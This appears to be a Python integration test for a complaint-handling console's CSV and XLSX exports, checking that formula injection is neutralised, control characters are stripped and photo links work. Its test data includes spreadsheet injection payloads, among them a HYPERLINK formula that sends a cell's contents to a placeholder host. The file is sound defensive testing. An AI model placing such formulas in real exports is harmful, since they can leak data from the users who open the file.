"""The console's exports hold data, never formulas (CSV, XLSX, the SP4N-LAPOR! sheet, the rekap,
from the web and from ``aduan export``); a stored control character breaks none of them; and the
SP4N-LAPOR! sheet's attachment links open the report's own photos.

Cells are read back as a spreadsheet reads them: the XLSX files with openpyxl (a formula cell
has the data type ``f``), the CSV with the csv module.
"""

from __future__ import annotations

import argparse
import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from pydantic import SecretStr
from sqlalchemy import update

from cli import console as console_cli
from runtime.settings import Settings
from storage.models import Report, ReportPhoto, Unit
from tests.integration.console_forms import post_form
from tests.integration.test_console import World, store_report, world
from web.console.exports import CSV_SEPARATORS, FORMATS

__all__ = ["world"]  # the console's fixture, shared

#: What a spreadsheet would run: a formula and the three other leads OWASP names.
LEADS = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+1+1", "-1+2", "@SUM(1+1)")
UNIT_NAME = '=HYPERLINK("http://contoh.invalid","Desa Sepaso")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
DIRTY = "Sampah\x0b menumpuk\x1b[2J di depan\x08 balai\x9b desa"


async def _file_injected(world: World) -> list[str]:
    """One report per lead, its description and address starting with it; the Sepaso unit
    renamed to a formula (as a unit file or the units command could name it)."""
    numbers = []
    for lead in LEADS:
        report_id, number = await world.file(category="sampah")
        async with world.db.sessions() as session:
            await session.execute(
                update(Report)
                .where(Report.id == report_id)
                .values(description=f"{lead} sampah menumpuk", address_detail=f"{lead} RT 05")
            )
            await session.commit()
        numbers.append(number)
    async with world.db.sessions() as session:
        await session.execute(
            update(Unit).where(Unit.id == world.units["desa-64-08-09-2001"]).values(name=UNIT_NAME)
        )
        await session.commit()
    return numbers


async def _web_exports(world: World) -> dict[str, bytes]:
    client = await world.client("diskominfo")
    try:
        found = {}
        for kind in FORMATS:
            data = {"format": kind, "dari": "2026-03-01", "sampai": "2026-03-31"}
            response = await post_form(client, "/ekspor", data)
            assert response.status == 200, (kind, await response.text())
            found[kind] = await response.read()
        return found
    finally:
        await client.close()


async def _cli_exports(world: World, tmp_path: Path) -> dict[str, bytes]:
    settings = Settings(_env_file=None, bot_token=SecretStr("1:x"), database_url=world.db.url)
    found = {}
    for kind in FORMATS:
        out = tmp_path / f"cli.{kind}"
        args = argparse.Namespace(
            format=kind, first="2026-03-01", last="2026-03-31", unit=None, output=out
        )
        assert await console_cli.export(settings, args) == 0
        found[kind] = out.read_bytes()
    return found


def _xlsx_cells(data: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every filled cell of the workbook's sheet."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [
        (cell.data_type, cell.value)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _csv_cells(data: bytes, separator: str = ";") -> list[str]:
    text = io.StringIO(data.decode("utf-8-sig"))
    return [cell for row in csv.reader(text, delimiter=separator) for cell in row]


def _assert_all_data(exported: dict[str, bytes]) -> None:
    for kind in ("xlsx", "lengkap", "lapor", "rekap"):
        cells = _xlsx_cells(exported[kind])
        assert [c for c in cells if c[0] == "f"] == [], kind
        texts = [v for t, v in cells if isinstance(v, str)]
        assert [v for v in texts if v.startswith(DANGEROUS)] == [], kind
        assert f"'{UNIT_NAME}" in texts, kind  # the unit is named, as text
    for kind, separator in CSV_SEPARATORS.items():
        texts = _csv_cells(exported[kind], separator)
        assert [v for v in texts if v.startswith(DANGEROUS)] == [], kind
        assert f"'{UNIT_NAME}" in texts, kind
    lapor = [v for _, v in _xlsx_cells(exported["lapor"])]
    for lead in LEADS:
        assert f"'{lead} sampah menumpuk" in lapor
        assert f"'{lead} RT 05" in lapor


async def test_no_export_writes_a_formula_from_the_web(world: World) -> None:
    await _file_injected(world)
    exported = await _web_exports(world)
    _assert_all_data(exported)
    # Numbers stay numbers: working days in the XLSX, the counts and shares in the rekap.
    assert any(t == "n" and isinstance(v, int) for t, v in _xlsx_cells(exported["xlsx"]))
    rekap = load_workbook(io.BytesIO(exported["rekap"])).active
    assert rekap is not None
    rows = [list(r) for r in rekap.iter_rows(values_only=True)]
    by_name = {r[0]: r for r in rows[2:]}
    assert by_name[f"'{UNIT_NAME}"][1] == len(LEADS)
    assert by_name["Total"][1] == len(LEADS)


async def test_no_export_writes_a_formula_from_the_command_line(
    world: World, tmp_path: Path
) -> None:
    await _file_injected(world)
    _assert_all_data(await _cli_exports(world, tmp_path))


async def test_a_stored_control_character_breaks_no_export(world: World, tmp_path: Path) -> None:
    """Rows stored before input was cleaned (or by any other door) still export."""
    report_id, number = await world.file(category="sampah")
    async with world.db.sessions() as session:
        await session.execute(
            update(Report)
            .where(Report.id == report_id)
            .values(description=DIRTY, address_detail="RT 05\x0c\x1b dekat\x00 masjid")
        )
        await session.execute(
            update(Unit)
            .where(Unit.id == world.units["desa-64-08-09-2001"])
            .values(name="Desa\x1b Sepaso")
        )
        await session.commit()
    for exported in (await _web_exports(world), await _cli_exports(world, tmp_path)):
        lapor = {str(v) for _, v in _xlsx_cells(exported["lapor"])}
        assert "Sampah menumpuk[2J di depan balai desa" in lapor
        assert "RT 05 dekat masjid" in lapor
        assert number in lapor
        for kind in ("xlsx", "rekap"):
            assert "Desa Sepaso" in {str(v) for _, v in _xlsx_cells(exported[kind])}
        assert "Desa Sepaso" in _csv_cells(exported["csv"])


async def test_the_lapor_sheet_links_each_stored_photo_by_its_position(
    world: World, tmp_path: Path
) -> None:
    _, number = await world.file(category="sampah")
    async with world.db.sessions() as session:
        report = await store_report(session, number)
        for position in (0, 1):
            image = world.config.media_dir / str(report) / f"{position}.jpg"
            image.parent.mkdir(parents=True, exist_ok=True)
            image.write_bytes(b"\xff\xd8\xff\xe0 foto %d" % position)
            session.add(
                ReportPhoto(
                    report_id=report,
                    position=position,
                    file_id=f"f{position}",
                    file_unique_id=f"u{position}",
                    stored_path=str(image),
                )
            )
        await session.commit()
    exported = await _web_exports(world)
    sheet = load_workbook(io.BytesIO(exported["lapor"])).active
    assert sheet is not None
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    links = str(next(r for r in rows if r[-1] == number)[11]).split()
    base = world.config.public_url.rstrip("/")
    assert links == [f"{base}/laporan/{number}/foto/0", f"{base}/laporan/{number}/foto/1"]
    client = await world.client("diskominfo")
    try:
        for position, link in enumerate(links):
            photo = await client.get(link.removeprefix(base))
            assert photo.status == 200, link
            assert await photo.read() == b"\xff\xd8\xff\xe0 foto %d" % position
    finally:
        await client.close()
